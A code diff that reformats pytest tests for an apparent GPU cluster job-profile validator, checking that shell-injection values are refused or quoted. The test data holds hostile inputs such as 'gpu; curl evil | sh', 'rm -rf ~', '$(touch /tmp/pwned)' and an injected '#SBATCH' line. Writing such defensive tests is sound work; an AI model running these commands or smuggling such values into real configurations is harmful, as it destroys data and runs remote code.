@@ -39,31 +39,37 @@ def test_gpus_per_node_not_dividing_world_is_a_clear_error():
         p.nodes_for(256)
 
 
-@pytest.mark.parametrize("key,value", [
-    ("partition", "gpu\nrm -rf ~"),
-    ("partition", "gpu; curl evil | sh"),
-    ("account", "proj $(touch /tmp/pwned)"),
-    ("qos", "normal`id`"),
-    ("constraint", "h100\n#SBATCH --nodes=1000"),
-    ("mem", "0; reboot"),
-    ("name", "x y"),
-])
+@pytest.mark.parametrize(
+    "key,value",
+    [
+        ("partition", "gpu\nrm -rf ~"),
+        ("partition", "gpu; curl evil | sh"),
+        ("account", "proj $(touch /tmp/pwned)"),
+        ("qos", "normal`id`"),
+        ("constraint", "h100\n#SBATCH --nodes=1000"),
+        ("mem", "0; reboot"),
+        ("name", "x y"),
+    ],
+)
 def test_directive_values_with_shell_text_are_refused(key, value):
     with pytest.raises(ConfigError, match=key):
         prof(**{key: value})
 
 
-@pytest.mark.parametrize("over,match", [
-    ({"modules": ["cuda/12.4; rm -rf ~"]}, "module name"),
-    ({"env": {"BAD KEY": "1"}}, "env key"),
-    ({"env": {"X": "a\nb"}}, "env.X"),
-    ({"env": {"RANK": "0"}}, "launcher"),
-    ({"venv": "/opt/venv\nrm -rf ~"}, "venv"),
-    ({"gpus_per_node": 0}, "gpus_per_node"),
-    ({"gpus_per_node": "8"}, "gpus_per_node must be int"),
-    ({"setup": ["echo hi"]}, "unknown key"),
-    ({"exclusive": "yes"}, "exclusive must be bool"),
-])
+@pytest.mark.parametrize(
+    "over,match",
+    [
+        ({"modules": ["cuda/12.4; rm -rf ~"]}, "module name"),
+        ({"env": {"BAD KEY": "1"}}, "env key"),
+        ({"env": {"X": "a\nb"}}, "env.X"),
+        ({"env": {"RANK": "0"}}, "launcher"),
+        ({"venv": "/opt/venv\nrm -rf ~"}, "venv"),
+        ({"gpus_per_node": 0}, "gpus_per_node"),
+        ({"gpus_per_node": "8"}, "gpus_per_node must be int"),
+        ({"setup": ["echo hi"]}, "unknown key"),
+        ({"exclusive": "yes"}, "exclusive must be bool"),
+    ],
+)
 def test_bad_values_are_clear_errors(over, match):
     with pytest.raises(ConfigError, match=match):
         prof(**over)
@@ -71,8 +77,12 @@ def test_bad_values_are_clear_errors(over, match):
 
 def test_setup_values_are_quoted_not_pasted(tmp_path):
     marker = tmp_path / "pwned"
-    p = prof(modules=["cuda/12.4", "nccl"], venv=f"/opt/my venv/$(touch {marker})",
-             workdir="/work/it's here", env={"NCCL_DEBUG": "WARN", "EVIL": f"$(touch {marker}); `touch {marker}`"})
+    p = prof(
+        modules=["cuda/12.4", "nccl"],
+        venv=f"/opt/my venv/$(touch {marker})",
+        workdir="/work/it's here",
+        env={"NCCL_DEBUG": "WARN", "EVIL": f"$(touch {marker}); `touch {marker}`"},
+    )
     lines = p.setup_lines()
     assert lines[0] == "module load cuda/12.4 nccl"
     assert lines[1] == "source " + shlex.quote(f"/opt/my venv/$(touch {marker})/bin/activate")
